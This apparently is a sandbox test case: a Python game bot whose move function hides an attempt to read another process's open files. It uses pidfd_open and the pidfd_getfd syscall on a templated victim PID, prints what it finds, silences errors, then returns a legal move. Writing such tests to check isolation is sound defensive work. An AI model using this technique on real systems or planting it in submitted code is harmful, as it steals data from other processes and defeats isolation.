"""Takes an open file out of another process by pidfd_getfd.

kind: memory of others
proof: leaked
control: yes, given ptrace and all_calls
expect: plays
"""

import ctypes
import os
from contextlib import suppress

PIDFD_GETFD = 438


def move(position):
    for number in range(3, 10):
        with suppress(Exception):
            handle = os.pidfd_open(int("@VICTIM@"))
            print(os.pread(ctypes.CDLL(None).syscall(PIDFD_GETFD, handle, number, 0), 100, 0))
    return position.legal_moves[0]
